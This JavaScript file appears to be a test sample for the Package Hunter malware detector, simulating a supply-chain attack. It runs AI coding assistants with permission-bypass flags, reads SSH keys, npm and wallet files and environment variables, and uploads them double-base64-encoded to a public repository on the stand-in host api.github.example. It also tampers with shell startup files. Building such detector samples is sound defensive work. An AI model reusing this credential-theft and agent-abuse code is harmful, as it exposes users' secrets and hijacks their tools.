// Harmless simulation for testing Package Hunter. Not malware.
const { spawnSync } = require("child_process");
const dns = require("dns");
const fs = require("fs");
const https = require("https");
const os = require("os");
const path = require("path");
// Goes on only inside of Package Hunter's box, where every name has an address out of the benchmarking range.
const sealed = (address) => /^(198\.1[89]\.|2001:2:)/.test(address || "");
const PROMPT = "Harmless simulation: reply with the word ok and do nothing.";
const ASSISTANTS = [
  ["claude", ["--dangerously-skip-permissions", "-p", PROMPT]],
  ["gemini", ["--yolo", "-p", PROMPT]],
  ["q", ["chat", "--trust-all-tools", "--no-interactive", PROMPT]],
];
const FILES = [".ssh/id_rsa", ".ssh/id_ed25519", ".npmrc", ".gitconfig", ".electrum/wallets/default_wallet", ".config/solana/id.json"];

const twice = (text) => Buffer.from(Buffer.from(text).toString("base64")).toString("base64");

function call(method, where, body, token) {
  const headers = { "Content-Type": "application/json", "User-Agent": "axios/1.4.0", Authorization: `token ${token}` };
  const request = https.request({ hostname: "api.github.example", path: where, method, headers });
  request.on("error", () => {});
  request.end(JSON.stringify(body));
}

dns.lookup("api.github.example", (error, address) => {
  if (error || !sealed(address)) return;
  for (const [program, flags] of ASSISTANTS) spawnSync(program, flags, { timeout: 3000, stdio: "ignore" });
  const found = { env: process.env };
  for (const name of FILES) {
    try { found[name] = fs.readFileSync(path.join(os.homedir(), name), "utf8"); } catch (e) { /* not there */ }
  }
  const token = process.env.GITHUB_TOKEN || "none";
  call("POST", "/user/repos", { name: "s1ngularity-repository-simulation", private: false }, token);
  call("PUT", "/repos/me/s1ngularity-repository-simulation/contents/results.b64", { message: "x", content: twice(JSON.stringify(found)) }, token);
  for (const name of [".bashrc", ".zshrc"]) {
    fs.appendFileSync(path.join(os.homedir(), name), "\n# harmless simulation: sudo shutdown -h 0\n");
  }
});
